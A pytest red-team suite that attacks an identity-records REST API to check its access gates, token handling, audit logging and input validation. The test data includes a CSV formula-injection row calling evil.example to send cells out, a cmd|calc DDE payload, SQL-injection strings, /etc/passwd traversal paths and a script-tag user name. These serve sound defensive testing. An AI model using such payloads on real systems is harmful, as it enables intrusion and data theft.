"""Red team (issue 15, helper F): attacks on the REST API over the live test server.

Each test is one attack. A test that passes is a regression guard (the system held);
a test that fails names, in its docstring, the fix it needs. Synthetic data only.
"""

from __future__ import annotations

import csv
import inspect
import io
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest
from api_fixtures import ADMIN, CASE, ORG, PURPOSE, ROLE_USERS, LiveApi

from idgraph.api import deps
from idgraph.api.deps import locked
from idgraph.app import admin, auth
from idgraph.app import cases as app_cases
from idgraph.app.context import Caller

PROBLEM = "application/problem+json"
ROOT = Caller(ADMIN, via="cli")
DET = ROLE_USERS["investigator"]
IMM_ORG = "dhs-ice"  # an immigration agency (synthetic)
IMM_INV, IMM_SUP = "rt_ice_inv", "rt_ice_sup"
IMM_CASE, IMM_CRIM_CASE = "RT-IMM-1", "RT-ICE-CRIM"
CLOSED_CASE = "RT-CLOSED"
LEAK_MARKERS = ("Traceback", "File \"", "duckdb", "SELECT ", "sqlite", ".py\"", "line ")


# -- helpers ------------------------------------------------------------------------------

def audit_size(live: LiveApi) -> int:
    with locked(live.env):
        row = live.env.store.fetchone("SELECT count(*) FROM audit_log")
    assert row is not None
    return int(row[0])


def audit_entries(live: LiveApi, since: int) -> list[dict[str, object]]:
    with locked(live.env):
        rows = live.env.store.fetchall("SELECT entry FROM audit_log ORDER BY seq")
    return [json.loads(r[0]) for r in rows[since:]]


def audit_text(live: LiveApi) -> str:
    with locked(live.env):
        return "\n".join(r[0] for r in live.env.store.fetchall("SELECT entry FROM audit_log"))


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def no_leak(r: httpx.Response) -> None:
    for marker in LEAK_MARKERS:
        assert marker not in r.text, (marker, r.text[:500])


@dataclass
class World:
    """Extra synthetic people, cases and tokens the attacks need (made once)."""

    tokens: dict[str, str]
    imm_legal_ids: dict[str, str]


@pytest.fixture(scope="module")
def world(live: LiveApi) -> Iterator[World]:
    env = live.env
    with locked(env):
        admin.add_user(env, ROOT, IMM_INV, "investigator", IMM_ORG, org_type="government",
                       immigration_agency=True)
        admin.add_user(env, ROOT, IMM_SUP, "supervisor", IMM_ORG, org_type="government",
                       immigration_agency=True)
        env.refresh()
        app_cases.open_case(env, Caller(IMM_INV), IMM_CASE, title="rt removal", kind="immigration")
        app_cases.open_case(env, Caller(IMM_INV), IMM_CRIM_CASE, title="rt crim", kind="criminal")
        app_cases.open_case(env, Caller(DET), CLOSED_CASE, title="rt closed", kind="criminal")
        app_cases.close_case(env, Caller(DET), CLOSED_CASE)
        env.refresh()
        tokens = {name: auth.create_token(env, ROOT, user=name, name=f"rt-{name}").secret
                  for name in (IMM_INV, IMM_SUP)}
    yield World(tokens=tokens, imm_legal_ids={})


def search(live: LiveApi, token: str, **params: object) -> httpx.Response:
    assert live.person is not None
    name, year = live.person
    with live.client() as c:
        return c.get("/api/v1/search", headers=bearer(token),
                     params={"name": name, "dob": str(year), **params})


# -- purpose, case and basis given per request (token_caller does not validate them) ------

@pytest.mark.parametrize("case", [IMM_CRIM_CASE, CLOSED_CASE, "RT-NO-SUCH-CASE"])
def test_read_under_a_case_of_another_org_closed_or_unknown_is_refused(
        live: LiveApi, world: World, case: str) -> None:
    """Held when 403: the gate's base.case_open decides the case (org, open) per read."""
    before = audit_size(live)
    r = search(live, live.tokens["investigator"], purpose=PURPOSE, claims="DPPA-b1",
               case_id=case)
    assert r.status_code == 403, r.text
    assert "base.case_open" in r.json().get("rules", []), r.json()
    assert audit_size(live) > before  # the refusal is audited


def test_purpose_that_does_not_fit_the_case_is_refused(live: LiveApi, world: World) -> None:
    """An immigration purpose under a criminal case (by an immigration agency's user)."""
    r = search(live, world.tokens[IMM_INV], purpose="civil_immigration_enforcement",
               case_id=IMM_CRIM_CASE)
    assert r.status_code == 403, r.text


def test_government_only_purpose_claimed_through_a_case_of_another_org(
        live: LiveApi, world: World) -> None:
    """The nypd investigator names dhs's open immigration case with the immigration
    purpose: case_open is false (another org), so the read is refused."""
    r = search(live, live.tokens["investigator"], purpose="civil_immigration_enforcement",
               case_id=IMM_CASE)
    assert r.status_code == 403, r.text


@pytest.mark.parametrize("purpose", ["", " ", "criminal_investigation ", "CRIMINAL_INVESTIGATION",
                                     "made_up"])
def test_odd_or_unknown_purpose_is_not_a_read(live: LiveApi, purpose: str) -> None:
    r = search(live, live.tokens["investigator"], purpose=purpose, claims="DPPA-b1",
               case_id=CASE)
    assert r.status_code in (403, 422), r.text
    assert not r.json().get("hits"), r.text


@pytest.mark.parametrize("path", ["/api/v1/search?name=smith",
                                  "/api/v1/identities/{iid}",
                                  "/api/v1/identities/{iid}/associates"])
def test_reads_without_a_purpose_are_refused(live: LiveApi, path: str) -> None:
    with live.client("investigator") as c:
        r = c.get(path.format(iid=live.identity_id))
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith(PROBLEM)


# -- New York DMV (Green Light law) under civil immigration enforcement -----------------

def _register(live: LiveApi, world: World, **fields: object) -> httpx.Response:
    body = {"number": f"RT-{time.monotonic_ns()}", "issued": "2026-01-02",
            "case_id": IMM_CASE, **fields}
    with live.client() as c:
        return c.post("/api/v1/legal", headers=bearer(world.tokens[IMM_INV]), json=body)


def _verified(live: LiveApi, world: World, legal_id: str) -> None:
    with live.client() as c:
        r = c.post(f"/api/v1/legal/{legal_id}/verify", headers=bearer(world.tokens[IMM_SUP]),
                   json={"sha256": "ab" * 32})
    assert r.status_code == 200, r.text


def _ny_dmv_reachable(live: LiveApi, world: World, basis: str | None) -> bool:
    params: dict[str, object] = {"purpose": "civil_immigration_enforcement",
                                 "claims": "DPPA-b1", "case_id": IMM_CASE}
    if basis:
        params["basis"] = basis
    r = search(live, world.tokens[IMM_INV], **params)
    if r.status_code == 403:
        return False
    assert r.status_code == 200, r.text
    body = r.json()
    segments = {s for h in body["hits"] for s in h.get("segments", [])}
    return "ny_dmv" in segments or "ny_dmv" not in body["withheld"]


def test_agency_paper_called_a_judicial_warrant_is_refused_at_registration(
        live: LiveApi, world: World) -> None:
    """An ICE administrative warrant (issuer: agency) typed as a judicial warrant."""
    r = _register(live, world, type="judicial_warrant", issuer="agency",
                  judge="Field Office Director", judge_appointment="administrative")
    assert r.status_code in (400, 403, 422), r.text
    no_leak(r)


def test_judicial_warrant_by_an_administrative_judge_does_not_open_ny_dmv(
        live: LiveApi, world: World) -> None:
    """Type judicial_warrant, issuer court, but signed by an administrative (agency) judge
    and verified by a colleague: NY VTL § 201(12)(a) needs an Article III judge."""
    r = _register(live, world, type="judicial_warrant", issuer="court", court="EOIR",
                  judge="Immigration Judge", judge_appointment="administrative")
    if r.status_code in (400, 403, 422):
        return  # refused at registration: held
    assert r.status_code == 201, r.text
    legal_id = r.json()["legal_id"]
    _verified(live, world, legal_id)
    assert not _ny_dmv_reachable(live, world, legal_id)


def test_administrative_warrant_does_not_open_ny_dmv(live: LiveApi, world: World) -> None:
    r = _register(live, world, type="administrative_warrant", issuer="agency",
                  level="federal")
    assert r.status_code == 201, r.text
    legal_id = r.json()["legal_id"]
    _verified(live, world, legal_id)
    assert not _ny_dmv_reachable(live, world, legal_id)
    assert not _ny_dmv_reachable(live, world, None)


def test_control_an_article_iii_judicial_warrant_does_open_ny_dmv(
        live: LiveApi, world: World) -> None:
    """Positive control for the two tests above (else they could pass vacuously): a
    verified judicial warrant signed by an Article III judge reaches the NY DMV."""
    r = _register(live, world, type="judicial_warrant", issuer="court", level="federal",
                  court="S.D.N.Y.", judge="Hon. A. Judge", judge_appointment="article_iii")
    assert r.status_code == 201, r.text
    legal_id = r.json()["legal_id"]
    _verified(live, world, legal_id)
    assert _ny_dmv_reachable(live, world, legal_id)


def test_basis_of_another_org_is_refused(live: LiveApi, world: World) -> None:
    """dhs's verified document named as basis by an nypd investigator."""
    r = _register(live, world, type="subpoena", issuer="agency", level="federal")
    assert r.status_code == 201, r.text
    legal_id = r.json()["legal_id"]
    r = search(live, live.tokens["investigator"], purpose=PURPOSE, claims="DPPA-b1",
               case_id=CASE, basis=legal_id)
    assert r.status_code == 403, r.text
    assert "base.basis_registered" in r.json().get("rules", []), r.json()


# -- protected attributes through query parameters ---------------------------------------

@pytest.mark.parametrize("where", ["race=black", "RACE=white", " race =asian", "ethnicity=x",
                                   "religion=muslim", "national_origin=mexico",
                                   "sexual_orientation=gay", "skin_color=dark", "gender=f",
                                   "immigration_status=undocumented", "race"])
def test_protected_attribute_criterion_is_refused(live: LiveApi, where: str) -> None:
    before = audit_size(live)
    with live.client("investigator") as c:
        r = c.get("/api/v1/search", params={**live.read_params(), "name": "smith",
                                            "where": where})
    assert r.status_code == 403, r.text
    assert audit_size(live) > before


def test_unknown_query_parameter_race_does_not_pass_silently(live: LiveApi) -> None:
    """`?race=black` as its own parameter: FastAPI drops unknown query parameters, so the
    search runs as if the criterion was not given (and the audit entry does not show
    it was asked for). Fix needed: the search route should refuse (and audit) unknown
    query parameters instead of ignoring them (e.g. a dependency comparing
    request.query_params keys with the declared ones, 422 or a gate refusal)."""
    with live.client("investigator") as c:
        r = c.get("/api/v1/search", params={**live.read_params(), "name": "smith",
                                            "race": "black"})
    assert r.status_code in (403, 422), r.status_code


# -- tokens, impersonation and privilege escalation -------------------------------------

def test_bearer_token_wins_over_another_users_session_cookie(live: LiveApi) -> None:
    """X's token with Y's (made-up) cookie: the actor is X, never Y."""
    before = audit_size(live)
    with live.client("investigator") as c:
        c.cookies.set(deps.SESSION_COOKIE, "not-a-session")
        r = c.get("/api/v1/search", params={**live.read_params(), "name": "smith"})
    assert r.status_code == 200, r.text
    actors = {e.get("principal") or e.get("actor") for e in audit_entries(live, before)}
    assert actors <= {DET}, actors


def test_non_admin_cannot_set_anothers_password_or_make_tokens_for_them(
        live: LiveApi) -> None:
    with live.client("supervisor") as c:
        r1 = c.post(f"/api/v1/users/{DET}/password",
                    json={"password": "a brand new long passphrase"})
        r2 = c.post("/api/v1/tokens", json={"user": DET, "name": "stolen", "days": 1})
        r3 = c.post(f"/api/v1/users/{DET}/disable")
    assert (r1.status_code, r2.status_code, r3.status_code) == (403, 403, 403), (
        r1.text, r2.text, r3.text)


def test_admin_token_for_another_user_is_audited_with_both_names(live: LiveApi) -> None:
    before = audit_size(live)
    with live.client("admin") as c:
        r = c.post("/api/v1/tokens", json={"user": DET, "name": "rt-minted", "days": 1})
    assert r.status_code == 201, r.text
    secret = r.json()["secret"]
    entries = [e for e in audit_entries(live, before) if e["action"] == "tokens.create"]
    assert entries, audit_entries(live, before)
    text = json.dumps(entries[-1])
    assert ADMIN in text and DET in text, text
    assert secret not in audit_text(live)
    assert secret.split("_", 2)[2] not in audit_text(live)


def test_reads_with_an_admin_minted_token_are_traceable_to_the_token(live: LiveApi) -> None:
    """An admin mints a token for the investigator and searches as them: the read's audit
    entry names only the investigator, so the admin's read is indistinguishable from
    the investigator's own (admins may never read records: base.reader_role). Fix
    needed: the read entries (search, profile.read, ...) should carry the token id
    (and via) of the bearer credential used, e.g. Caller gains token_id and
    app.reads writes it into the entry detail, so a minted token's reads can be tied
    to the tokens.create entry that names the admin."""
    with live.client("admin") as c:
        r = c.post("/api/v1/tokens", json={"user": DET, "name": "rt-impersonate", "days": 1})
    assert r.status_code == 201, r.text
    grant = r.json()
    before = audit_size(live)
    with live.client() as c:
        r = c.get("/api/v1/search", headers=bearer(grant["secret"]),
                  params={**live.read_params(), "name": "smith"})
    assert r.status_code == 200, r.text
    reads = [e for e in audit_entries(live, before) if e["action"] != "auth.token"]
    assert reads
    assert all(grant["token_id"] in json.dumps(e) for e in reads), reads


@pytest.mark.parametrize("role", ["operator", "root", "superuser", "Admin"])
def test_admin_cannot_create_a_user_with_an_unknown_or_operator_role(
        live: LiveApi, role: str) -> None:
    with live.client("admin") as c:
        r = c.post("/api/v1/users", json={"name": f"rt_{role.lower()}", "role": role,
                                          "org": ORG, "org_type": "government"})
    assert r.status_code in (403, 422), r.text


@pytest.mark.parametrize("name", ["operator:evil", "Root", "root ", "ro\u200bot", "a/b",
                                  "<script>alert(1)</script>"])
def test_admin_cannot_create_confusable_or_reserved_user_names(live: LiveApi,
                                                               name: str) -> None:
    """A user named operator:* would be taken for the CLI's local operator; a name that
    differs from 'root' only by case, space or an invisible character impersonates root
    in listings and audit reports; markup in a name reaches every page showing it; a
    name with '/' cannot be addressed by /users/{name}/disable or /password (API and
    web), so such a user cannot be disabled except from the CLI. Fix needed:
    policy/users.name_problem should accept only a conservative pattern (e.g.
    ^[a-z0-9][a-z0-9._-]{0,63}$, compared case-insensitively with existing names)."""
    with live.client("admin") as c:
        r = c.post("/api/v1/users", json={"name": name, "role": "investigator",
                                          "org": ORG, "org_type": "government"})
    assert r.status_code in (403, 409, 422), (name, r.status_code, r.text)


@pytest.mark.parametrize("role", ["investigator", "supervisor", "records_officer", "admin",
                                  "counsel"])
def test_audit_log_is_read_only_by_the_overseer(live: LiveApi, role: str) -> None:
    with live.client(role) as c:
        r1 = c.get("/api/v1/audit/export", params={"start": 0, "end": 5})
        r2 = c.get("/api/v1/audit/proof/0")
    assert (r1.status_code, r2.status_code) == (403, 403), (r1.text, r2.text)


def test_session_cookie_csrf_is_compared_in_constant_time() -> None:
    """api/deps.bearer_caller compares the X-CSRF-Token header with `!=` (a timing
    side channel on the session's CSRF token). Fix needed: hmac.compare_digest, as
    web/session.tokens_match does (noted by C in changes15.md)."""
    source = inspect.getsource(deps.bearer_caller)
    assert "compare_digest" in source


# -- every response that reads personal data leaves an audit entry -----------------------

def test_every_read_response_leaves_an_entry(live: LiveApi) -> None:
    assert live.identity_id and live.record_ids
    iid = live.identity_id
    a, b = live.record_ids
    calls = [
        ("/api/v1/search", {"name": "smith"}),
        (f"/api/v1/identities/{iid}", {}),
        (f"/api/v1/identities/{iid}/associates", {}),
        ("/api/v1/explain", {"record_a": a, "record_b": b}),
    ]
    with live.client("investigator") as c:
        for path, params in calls:
            before = audit_size(live)
            r = c.get(path, params={**live.read_params(), **params})
            assert r.status_code == 200, (path, r.text)
            assert audit_size(live) > before, path


def _match_job(live: LiveApi, rows: str, mapping: str, case: str = CASE) -> str:
    files = {"list_file": ("list.csv", rows.encode(), "text/csv"),
             "mapping": ("mapping.yaml", mapping.encode(), "application/yaml")}
    data = {"purpose": PURPOSE, "claims": "DPPA-b1", "case_id": case}
    with live.client("investigator") as c:
        r = c.post("/api/v1/match", files=files, data=data)
        assert r.status_code == 202, r.text
        job = r.json()["job_id"]
        deadline = time.monotonic() + 120
        while True:
            r = c.get(f"/api/v1/match/{job}")
            assert r.status_code == 200, r.text
            if r.json()["status"] in ("done", "failed"):
                break
            assert time.monotonic() < deadline
            time.sleep(0.2)
        assert r.json()["status"] == "done", r.text
    return str(job)


MAPPING = """fields:
  full_name: {column: NAME, order: last_first}
  dob: {column: BORN, format: "%Y"}
record_id: REF
"""


@pytest.fixture(scope="module")
def formula_job(live: LiveApi) -> str:
    assert live.person is not None
    name, year = live.person
    rows = ("REF,NAME,BORN\n"
            f'"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",{name},{year}\n'
            f"+cmd|' /C calc'!A0,{name},{year}\n"
            f"@SUM(1+1),{name},{year}\n"
            f"-2+3,{name},{year}\n")
    return _match_job(live, rows, MAPPING)


def test_downloading_match_results_is_audited(live: LiveApi, formula_job: str) -> None:
    """GET /match/{job}/results returns the matched identity ids of every listed person
    any number of times with no audit entry (only the match itself was audited). Fix
    needed: audit each results download (an act or a read entry naming the job, the
    caller, via and the identity ids disclosed)."""
    before = audit_size(live)
    with live.client("investigator") as c:
        r = c.get(f"/api/v1/match/{formula_job}/results")
    assert r.status_code == 200, r.text
    assert audit_size(live) > before


def test_match_results_csv_neutralises_formulas(live: LiveApi, formula_job: str) -> None:
    """CSV/formula injection: a listed row id starting with = + - @ is written as-is,
    so opening the download in a spreadsheet runs it (=HYPERLINK exfiltrates cells).
    Fix needed: in search/match.row_dicts (or app.reads.match_csv and the API's CSV
    writer) prefix any text cell starting with = + - @ TAB CR with a single quote
    (OWASP CSV injection)."""
    with live.client("investigator") as c:
        r = c.get(f"/api/v1/match/{formula_job}/results")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    for row in csv.DictReader(io.StringIO(r.text)):
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_another_user_cannot_poll_or_download_my_match_job(live: LiveApi,
                                                           formula_job: str) -> None:
    for role in ("supervisor", "overseer", "admin"):
        with live.client(role) as c:
            r1 = c.get(f"/api/v1/match/{formula_job}")
            r2 = c.get(f"/api/v1/match/{formula_job}/results")
        assert (r1.status_code, r2.status_code) == (404, 404), (role, r1.text, r2.text)


# -- uploads: traversal, confinement, size ----------------------------------------------

def _ingest(live: LiveApi, manifest: str, files: list[tuple[str, bytes]]) -> httpx.Response:
    parts = [("manifest", ("m.yaml", manifest.encode(), "application/yaml"))]
    parts += [("files", (fname, content, "text/csv")) for fname, content in files]
    with live.client("records_officer") as c:
        return c.post("/api/v1/ingest", files=parts)


def _manifest(path: str) -> str:
    return f"""id: rt_src
title: rt (synthetic)
kind: utility
jurisdiction: US-NY
collected_for: tests
retention_days: 30
input: {{path: "{path}", format: csv}}
record_id: id
fields:
  first_name: first
  last_name: last
"""


@pytest.mark.parametrize("path", ["../../../../etc/passwd", "/etc/passwd", "..", "*.csv",
                                  "./rt.csv/../../../etc/hostname", "rt.csv\x00.txt",
                                  "file:///etc/passwd"])
def test_manifest_input_path_cannot_leave_the_upload(live: LiveApi, path: str,
                                                     tmp_path: object) -> None:
    r = _ingest(live, _manifest(path), [("rt.csv", b"id,first,last\n1,A,B\n")])
    assert r.status_code == 422, r.text
    no_leak(r)


@pytest.mark.parametrize("fname", ["../../../../tmp/rt-evil.csv", "..\\..\\rt-evil.csv",
                                   "/tmp/rt-evil.csv", ".bashrc"])
def test_upload_file_names_cannot_traverse(live: LiveApi, fname: str) -> None:
    from pathlib import Path

    r = _ingest(live, _manifest("rt-evil.csv"), [(fname, b"id,first,last\n1,A,B\n")])
    assert r.status_code in (200, 422), r.text
    assert not Path("/tmp/rt-evil.csv").exists()
    no_leak(r)


def test_oversized_multipart_is_413_with_headers(live: LiveApi) -> None:
    """A declared Content-Length over the upload limit: refused before the body is read."""
    import socket
    from urllib.parse import urlsplit

    url = urlsplit(live.base_url)
    limit = live.settings.api_max_body_bytes
    request = (f"POST /api/v1/ingest HTTP/1.1\r\nHost: {url.netloc}\r\n"
               f"Authorization: Bearer {live.tokens['records_officer']}\r\n"
               "Content-Type: multipart/form-data; boundary=x\r\n"
               f"Content-Length: {limit + 1}\r\n\r\n--x\r\n").encode()
    with socket.create_connection((url.hostname, url.port), timeout=30) as sock:
        sock.sendall(request)
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = sock.recv(4096)
            if not chunk:
                break
            head += chunk
    text = head.decode("latin-1").lower()
    assert text.startswith("http/1.1 413"), text[:200]
    assert "x-content-type-options: nosniff" in text
    assert "cache-control: no-store" in text
    assert "content-security-policy:" in text


def test_json_declared_as_multipart_cannot_use_the_upload_limit(live: LiveApi) -> None:
    """A JSON route fed a big body labelled multipart/form-data: the 64 MiB upload limit
    applies only to multipart, and a JSON route must reject it anyway (422 or 413)."""
    big = b"x" * (live.settings.api_max_json_bytes + 10)
    with live.client("admin") as c:
        r = c.post("/api/v1/cases", headers={"Content-Type": "multipart/form-data; boundary=x"},
                   content=big)
    assert r.status_code in (413, 415, 422), r.status_code
    no_leak(r)


# -- errors and headers ------------------------------------------------------------------

@pytest.mark.parametrize("method,path,kw", [
    ("GET", "/api/v1/nope", {}),
    ("DELETE", "/api/v1/search", {}),
    ("OPTIONS", "/api/v1/search", {}),
    ("TRACE", "/api/v1/health", {}),
    ("POST", "/api/v1/cases", {"content": b"{not json", "headers": {
        "Content-Type": "application/json"}}),
    ("GET", "/api/v1/search", {"params": {"purpose": PURPOSE, "case_id": CASE,
                                          "dob": "1984-13-45'; DROP TABLE users;--"}}),
    ("GET", "/api/v1/search", {"params": {"purpose": PURPOSE, "case_id": CASE,
                                          "name": "' OR 1=1 --", "limit": "0"}}),
    ("GET", "/api/v1/identities/%00%27", {"params": {"purpose": PURPOSE, "case_id": CASE}}),
    ("GET", "/api/v1/audit/proof/999999999", {}),
    ("GET", "/api/v1/reports/subject/x'--", {}),
    # a window ending on date.max: OverflowError in audit/reports/oversight.py (a 500)
    # -> fix (A): app.reports.oversight_report refuses it (422)
    ("GET", "/api/v1/reports/oversight", {"params": {"start": "0001-01-01",
                                                     "end": "9999-12-31"}}),
    ("GET", "/api/v1/reports/corrections", {"params": {"since": "9999-12-31"}}),
    ("GET", "/api/v1/reports/corrections", {"params": {"since": "0001-01-01"}}),
])
def test_errors_are_problems_without_internals_and_with_headers(
        live: LiveApi, method: str, path: str, kw: dict[str, object]) -> None:
    with live.client("overseer") as c:
        r = c.request(method, path, **kw)  # type: ignore[arg-type]
    assert r.status_code < 500, (r.status_code, r.text)
    no_leak(r)
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'self'" in r.headers["content-security-policy"]


def test_no_cors_for_another_origin(live: LiveApi) -> None:
    with live.client() as c:
        r = c.options("/api/v1/search", headers={
            "Origin": "https://evil.example", "Access-Control-Request-Method": "GET",
            "Access-Control-Request-Headers": "authorization"})
        r2 = c.get("/api/v1/health", headers={"Origin": "https://evil.example"})
    assert "access-control-allow-origin" not in r.headers
    assert "access-control-allow-origin" not in r2.headers


def test_no_secret_in_problem_details_or_audit(live: LiveApi) -> None:
    """A fresh user (no password yet, so no current password is asked) sets one, then
    tries a short one; a forged bearer token is refused: none of it is echoed or logged."""
    name = f"rt_pw_{time.monotonic_ns() % 10**9}"
    with locked(live.env):
        admin.add_user(live.env, ROOT, name, "investigator", ORG, org_type="government")
        live.env.refresh()
        own = auth.create_token(live.env, ROOT, user=name, name="rt-pw").secret
    password = "rt very secret passphrase 42"
    with live.client() as c:
        r = c.post(f"/api/v1/users/{name}/password", headers=bearer(own),
                   json={"password": password})
        assert r.status_code == 204, r.text
        bad = c.post(f"/api/v1/users/{name}/password", headers=bearer(own),
                     json={"password": "short", "current": password})
        assert bad.status_code in (403, 422), bad.text
        assert "short" not in bad.text and password not in bad.text
    with live.client() as c:
        token = live.tokens["investigator"]
        wrong = token[:-4] + "AAAA"
        r = c.get("/api/v1/users", headers=bearer(wrong))
    assert r.status_code == 401
    assert wrong not in r.text and token.split("_", 2)[2] not in r.text
    text = audit_text(live)
    assert password not in text
    assert wrong.split("_", 2)[2] not in text


def test_server_config_has_no_access_log_and_no_proxy_headers() -> None:
    """The access log would write searched names/dates (query strings) to the console;
    trusting X-Forwarded-For would let any client pick its address (lock-out key)."""
    from idgraph.cli import serve

    cfg = serve.config(object(), "127.0.0.1", 8000)
    assert cfg.access_log is False
    assert cfg.proxy_headers is False
    assert cfg.server_header is False


@pytest.mark.parametrize("days", [0, -1, 367, 100000])
def test_token_lifetime_is_bounded(live: LiveApi, days: int) -> None:
    with live.client("investigator") as c:
        r = c.post("/api/v1/tokens", json={"name": "rt-long", "days": days})
    assert r.status_code == 422, r.text


@pytest.mark.parametrize("ctype,body", [
    ("multipart/form-data", b"garbage"),
    ("multipart/form-data; boundary=zz", b"--zz\r\nContent-Disposition: form-data\r\n\r\nx"),
    ("multipart/form-data; boundary=zz", b"--zz\r\nContent-Disposition: form-data; "
     b"name=\"manifest\"; filename=\"../../m.yaml\"\r\n\r\nid: x\r\n--zz--\r\n"),
])
def test_malformed_multipart_is_a_4xx_problem(live: LiveApi, ctype: str, body: bytes) -> None:
    with live.client("records_officer") as c:
        r = c.post("/api/v1/ingest", headers={"Content-Type": ctype}, content=body)
    assert 400 <= r.status_code < 500, (r.status_code, r.text)
    no_leak(r)


@pytest.mark.parametrize("role,path,params", [
    ("records_officer", "/api/v1/quarantine", {"limit": 5}),
    ("supervisor", "/api/v1/sources", {}),
    ("overseer", "/api/v1/audit/export", {"start": 0, "end": 3}),
    ("overseer", "/api/v1/audit/proof/0", {}),
    ("admin", "/api/v1/users", {}),
    ("overseer", "/api/v1/reports/oversight", {"start": "2026-01-01", "end": "2026-12-31"}),
    ("overseer", "/api/v1/reports/corrections", {}),
    ("investigator", "/api/v1/identities/P-NO-SUCH-ONE", "read"),
])
def test_personal_data_responses_of_acts_leave_an_entry(
        live: LiveApi, role: str, path: str, params: object) -> None:
    query = live.read_params() if params == "read" else params
    before = audit_size(live)
    with live.client(role) as c:
        r = c.get(path, params=query)  # type: ignore[arg-type]
    assert r.status_code == 200, (path, r.status_code, r.text[:300])
    assert audit_size(live) > before, path


def test_token_listing_shows_no_secret(live: LiveApi) -> None:
    with live.client("admin") as c:
        r = c.get("/api/v1/tokens")
    assert r.status_code == 200, r.text
    for secret in live.tokens.values():
        assert secret.split("_", 2)[2] not in r.text


def test_another_orgs_cases_and_legal_process_stay_hidden(live: LiveApi, world: World) -> None:
    """nypd users (investigator, supervisor) and dhs's immigration case and documents."""
    r = _register(live, world, type="court_order", issuer="court", level="federal",
                  court="S.D.N.Y.", judge="Hon. B", judge_appointment="article_iii")
    assert r.status_code == 201, r.text
    legal_id = r.json()["legal_id"]
    with live.client("investigator") as c:
        listed = c.get("/api/v1/cases")
        one = c.get(f"/api/v1/cases/{IMM_CASE}")
        legal = c.get("/api/v1/legal", params={"case_id": IMM_CASE})
        close = c.post(f"/api/v1/cases/{IMM_CASE}/close")
    assert listed.status_code == 200 and IMM_CASE not in listed.text, listed.text[:300]
    assert one.status_code in (403, 404), one.text
    assert legal.status_code in (200, 403) and legal_id not in legal.text, legal.text[:300]
    assert close.status_code in (403, 404), close.text
    with live.client("supervisor") as c:
        verify = c.post(f"/api/v1/legal/{legal_id}/verify", json={"sha256": "cd" * 32})
    assert verify.status_code in (403, 404), verify.text


def test_revoking_another_users_token_by_its_id_is_refused(live: LiveApi) -> None:
    with live.client("admin") as c:
        listed = c.get("/api/v1/tokens").json()
    det_ids = [t["token_id"] for t in listed if t["user"] == DET and not t.get("revoked")]
    assert det_ids
    target = live.tokens["investigator"].split("_", 2)[1]
    assert target in det_ids
    with live.client("supervisor") as c:
        r = c.post(f"/api/v1/tokens/{target}/revoke")
    assert r.status_code in (403, 404), r.text
    with live.client("investigator") as c:
        assert c.get("/api/v1/tokens").status_code == 200  # still works


def test_match_results_are_not_served_after_the_case_closed(live: LiveApi) -> None:
    """A match run under case RT-API-MC; the case is closed; GET /match/{job}/results
    must not disclose the matches any more (no read may be made under a closed case).
    Fix needed (if this fails): app.reads.match_download re-decides the job's query
    (base.case_open) before returning rows."""
    assert live.person is not None
    name, year = live.person
    with locked(live.env):
        app_cases.open_case(live.env, Caller(DET), "RT-API-MC", title="m", kind="criminal")
        live.env.refresh()
    job = _match_job(live, f"REF,NAME,BORN\nR1,{name},{year}\n", MAPPING, case="RT-API-MC")
    with locked(live.env):
        app_cases.close_case(live.env, Caller(DET), "RT-API-MC")
        live.env.refresh()
    with live.client("investigator") as c:
        r = c.get(f"/api/v1/match/{job}/results")
    assert r.status_code in (403, 404, 409, 410), (r.status_code, r.text[:300])


@pytest.mark.parametrize("role,path,body", [
    ("records_officer", "/api/v1/sar", {"identity_id": "P-RT-NOONE", "case_id": "SA-API-1",
                                        "requester": "r", "received": "9999-12-31"}),
    ("records_officer", "/api/v1/sar", {"identity_id": "P-RT-NOONE", "case_id": "SA-API-1",
                                        "requester": "r", "received": "0001-01-01"}),
    ("investigator", "/api/v1/legal", {"type": "subpoena", "number": "RT-D1", "level": "state",
                                       "issuer": "court", "issued": "9999-12-31",
                                       "case_id": CASE}),
    ("investigator", "/api/v1/legal", {"type": "subpoena", "number": "RT-D2", "level": "state",
                                       "issuer": "court", "issued": "2026-01-01",
                                       "expires": "0001-01-01", "case_id": CASE}),
    ("records_officer", "/api/v1/retention/apply", {"as_of": "0001-01-01T00:00:00Z"}),
    ("records_officer", "/api/v1/retention/apply", {"as_of": "9999-12-31T23:59:59+14:00"}),
])
def test_extreme_dates_are_refused_not_a_crash(live: LiveApi, role: str, path: str,
                                               body: dict[str, object]) -> None:
    """Dates at the ends of the calendar (a notice due date or a window computed from
    them overflows). Anything but a 5xx; a far-future retention run must be refused
    (it would purge everything)."""
    with live.client(role) as c:
        r = c.post(path, json=body)
    assert r.status_code < 500, (path, body, r.status_code, r.text[:300])
    if path.endswith("retention/apply") and body["as_of"].startswith("9999"):  # type: ignore[union-attr]
        assert r.status_code in (400, 422), r.text[:300]
    no_leak(r)


def test_a_stolen_short_token_cannot_mint_a_longer_lived_one(live: LiveApi) -> None:
    """Persistence: whoever steals a 1-day token uses it to create a 365-day token for
    the same user; revoking (or letting expire) the stolen token leaves the new one
    working. Fix needed (C): a bearer-authenticated tokens.create may not outlive the
    token used (expires <= the caller token's expiry), or token creation is refused
    over a bearer token (CLI / web session only, where a password was given)."""
    with live.client("admin") as c:
        r = c.post("/api/v1/tokens", json={"user": DET, "name": "rt-short", "days": 1})
    assert r.status_code == 201, r.text
    short = r.json()
    with live.client() as c:
        r = c.post("/api/v1/tokens", headers=bearer(short["secret"]),
                   json={"name": "rt-persist", "days": 365})
    if r.status_code in (401, 403, 422):
        return  # refused: held
    assert r.status_code == 201, r.text
    child = r.json()
    assert child["expires"] <= short["expires"], (child["expires"], short["expires"])
